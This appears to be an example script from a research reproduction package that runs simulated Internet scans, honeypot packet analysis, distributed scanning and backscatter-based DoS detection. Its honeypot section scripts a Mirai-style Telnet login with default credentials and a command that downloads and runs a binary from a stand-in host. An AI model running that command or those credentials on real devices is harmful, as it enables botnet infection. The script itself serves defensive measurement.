#!/usr/bin/env python3
"""Scenario: the paper's Section 6 future-work agenda, executed.

The paper closes with three plans: extend the scans to TR-069 and
industrial IoT protocols (DDS, OPC UA), analyse raw packet data more
deeply, and combine geographically distributed scanners.  This example
runs all three against the simulated Internet.

Run:  python examples/future_work.py
"""

from repro.analysis.misconfig import classify_database
from repro.honeypots.deployment import build_deployment
from repro.honeypots.pcap import analyze_payloads, read_pcap
from repro.internet.fabric import SimulatedInternet
from repro.internet.population import PopulationBuilder, PopulationConfig
from repro.net.geo import GeoRegistry
from repro.net.ipv4 import ip_to_int
from repro.protocols.base import ProtocolId
from repro.scanner.vantage import DEFAULT_VANTAGES, DistributedScanner
from repro.scanner.zmap import InternetScanner, ScanConfig
from repro.telescope.rsdos import detect_rsdos
from repro.telescope.telescope import NetworkTelescope, TelescopeConfig
from repro.attacks.actors import ActorRegistry
from repro.net.asn import AsnRegistry


def extended_protocol_scan(seed: int) -> None:
    print("== 1. Extended protocol scan: TR-069, DDS, OPC UA ==")
    population = PopulationBuilder(PopulationConfig(
        seed=seed, scale=2048, honeypot_scale=256, include_extended=True,
    )).build()
    extended = (ProtocolId.TR069, ProtocolId.DDS, ProtocolId.OPCUA)
    scanner = InternetScanner(
        population.internet, ScanConfig(protocols=extended)
    )
    database = scanner.run_campaign()
    for protocol, count in database.counts_by_protocol().items():
        print(f"  {protocol}: {count} exposed endpoints")
    report = classify_database(database)
    for protocol, vulnerability, count in report.rows():
        if count:
            print(f"  {protocol:<7} {vulnerability:<34} {count}")
    print()


def raw_packet_analysis(seed: int) -> None:
    print("== 2. Raw packet analysis: pcap capture + payload carving ==")
    net = SimulatedInternet()
    deployment = build_deployment()
    deployment.attach(net)
    cowrie = deployment.get("Cowrie")
    cowrie.enable_pcap()
    attacker = ip_to_int("185.220.101.7")
    transcript = deployment.drive_session(
        net, attacker, cowrie, ProtocolId.TELNET,
        [b"root", b"xc3511",
         b"wget http://198.51.100.42/mirai.arm7 -O /tmp/m; "
         b"chmod +x /tmp/m; /tmp/m"],
    )
    cowrie.record(transcript, day=0, timestamp=3_600.0, actor="mirai")
    pcap = cowrie.pcap.pcap_bytes()
    print(f"  captured {len(pcap)} pcap bytes")
    findings = analyze_payloads(read_pcap(pcap), cowrie.address)
    for finding in findings:
        print(f"  {finding.kind}: {finding.value} "
              f"(from {finding.source:x})")
    print()


def distributed_scanning(seed: int) -> None:
    print("== 3. Geographically distributed scanning (Wan et al.) ==")
    population = PopulationBuilder(PopulationConfig(
        seed=seed, scale=4096, honeypot_scale=512,
    )).build()
    scanner = DistributedScanner(
        population.internet, GeoRegistry(seed),
        protocols=(ProtocolId.TELNET,), seed=seed,
    )
    comparison = scanner.run()
    union = comparison.union_hosts()
    print(f"  union of {len(DEFAULT_VANTAGES)} vantages: "
          f"{len(union)} Telnet hosts")
    for vantage in DEFAULT_VANTAGES:
        miss = comparison.single_vantage_miss_rate(vantage.name)
        exclusive = len(comparison.exclusive_to(vantage.name))
        print(f"  {vantage.name:<11} sees {len(comparison.hosts_seen(vantage.name))}"
              f"  (misses {100 * miss:.1f}% alone; {exclusive} exclusive)")
    print()


def rsdos_metadata(seed: int) -> None:
    print("== Bonus: RSDoS attack metadata from telescope backscatter ==")
    telescope = NetworkTelescope(
        ActorRegistry(), GeoRegistry(seed), AsnRegistry(seed),
        TelescopeConfig(seed=seed, telnet_source_scale=131_072,
                        source_scale=1024, packet_scale=65_536,
                        rsdos_attacks_per_day=2, days=7),
    )
    capture = telescope.capture_month()
    detected = detect_rsdos(
        capture.writer.iter_rows(), packet_scale=capture.config.packet_scale
    )
    print(f"  {len(capture.rsdos_truth)} spoofed attacks in the week, "
          f"{len(detected)} detected from backscatter")
    for attack in detected[:5]:
        print(f"  day {attack.day + 1}: victim {attack.victim_text}:"
              f"{attack.victim_port}, ~{attack.estimated_attack_packets:,} "
              f"attack packets (from {attack.backscatter_packets} "
              f"backscatter)")


def main() -> None:
    seed = 7
    extended_protocol_scan(seed)
    raw_packet_analysis(seed)
    distributed_scanning(seed)
    rsdos_metadata(seed)


if __name__ == "__main__":
    main()
